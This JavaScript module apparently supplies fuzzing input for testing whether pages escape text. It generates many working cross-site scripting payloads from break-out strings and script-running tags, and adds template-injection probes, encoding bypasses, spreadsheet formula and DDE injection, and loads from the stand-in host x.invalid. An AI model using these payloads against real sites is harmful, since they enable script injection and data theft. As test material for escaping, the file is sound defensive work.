// Texts that would run or change a page that does not escape them, made from parts: what breaks out × what then happens.
// `alert` stands for anything. They are our own, after the HTML standard's parsing rules.
const act = 'alert(7)';
const breakers = ['', '">', "'>", '</textarea>', '</title>', '</script>', '</style>', '-->', '</select>', '</a>', '</button></form>', ']]>'];
const happenings = [
  `<script>${act}</script>`, `<ScRiPt >${act}</ScRiPt>`, '<script src=//x.invalid></script>', `<img src=x onerror=${act}>`, `<img/src/onerror=${act}//`,
  `<svg onload=${act}>`, `<svg/onload=${act}>`, `<svg><animate onbegin=${act} attributeName=x dur=1s>`, `<svg><a xlink:href=javascript:${act}><text y=9>x`,
  `<svg><script>${act}</script></svg>`, `<math><a xlink:href=javascript:${act}>x`, `<body onload=${act}>`, `<iframe src=javascript:${act}>`,
  `<iframe srcdoc="<script>${act}</script>">`, `<object data=javascript:${act}>`, '<embed src=//x.invalid>', `<details open ontoggle=${act}>`,
  `<input autofocus onfocus=${act}>`, `<textarea autofocus onfocus=${act}>`, `<x tabindex=0 autofocus onfocus=${act}>`, `<video><source onerror=${act}>`,
  `<audio src onerror=${act}>`, `<marquee onstart=${act}>`, `<a href=javascript:${act}>x</a>`, `<form action=javascript:${act}><button>x`,
  `<button formaction=javascript:${act}>x`, '<form action=//x.invalid>', '<base href=//x.invalid/>', '<link rel=stylesheet href=//x.invalid>',
  '<style>*{display:none}</style>', '<meta http-equiv=refresh content=0;url=//x.invalid>', `<template><img src=x onerror=${act}></template>`,
  '<div data-controller=draft data-draft-url=//x.invalid>', `<turbo-stream action=append target=main><template><img src=x onerror=${act}></template></turbo-stream>`,
  '<turbo-frame src=//x.invalid id=main>',
];
// What other languages of the page would understand: attributes, addresses, templates, readings, escapes.
const others = [
  `" onfocus=${act} autofocus x="`, `' onmouseover=${act} x='`, `" style="position:fixed;inset:0" onclick="${act}`, `\` onerror=${act}`, `x onerror=${act}`,
  `javascript:${act}`, `JaVaScRiPt:${act}`, `java\tscript:${act}`, ` javascript:${act}`, `javascript://x%0a${act}`, `data:text/html,<script>${act}</script>`, `vbscript:${act}`,
  '{{FORM_TOKEN}}', '{{#ERROR}}x{{/ERROR}}', '{{>WHO_SEES}}', '[[look.name]]', '[[plan.title name=NAME]]', '${7*7}', '<%= 7*7 %>', '{%print(7)%}',
  `{<img src=x onerror=${act}>/x}`, `{漢字/<img src=x onerror=${act}>}`, '{漢字/</rt></ruby><script>}', '{漢字/かんじ', '{/}', `</rt></ruby><img src=x onerror=${act}>`,
  `&lt;script&gt;${act}&lt;/script&gt;`, `&#60;script&#62;${act}`, `%3Cscript%3E${act}%3C/script%3E`, `\\u003cscript\\u003e${act}`, `＜script＞${act}＜/script＞`,
  `<scr\u200bipt>${act}`, `\u202e<script>${act}`, `\u2028<script>${act}</script>`, '\'"`<>&/\\', '<!--', '<![CDATA[', '<?xml version="1.0"?>', '<!DOCTYPE x>', '\\";alert(7);//',
  '=HYPERLINK("//x.invalid")', '+7+7', '-7+7', '@SUM(7)', '=cmd|\'/C calc\'!A0', '(/JS 7)', 'endstream endobj', '%PDF-1.7',
];

export const payloads = [...breakers.flatMap((breaker) => happenings.map((happening) => breaker + happening)), ...others];
export const formulas = ['=7+7', '+7+7', '-7+7', '@SUM(7)', '=HYPERLINK("//x.invalid")', ' =7+7', '\t=7+7'];

// Hands them out in turn, as many as a field takes.
export class Dealer {
  constructor(most = 240) {
    Object.assign(this, { most, next: 0, dealt: new Set() });
  }

  pack(limit) {
    const room = Math.min(Number(limit) || this.most, this.most);
    let words = '';
    for (let tries = 0; tries < 8; tries += 1) {
      const one = payloads[this.next % payloads.length];
      if (words && words.length + one.length + 1 > room) break;
      this.next += 1;
      if (one.length > room) continue; // meets a wider field in another round
      words = words ? `${words} ${one}` : one;
      this.dealt.add(one);
    }
    return words || '<b>';
  }
}
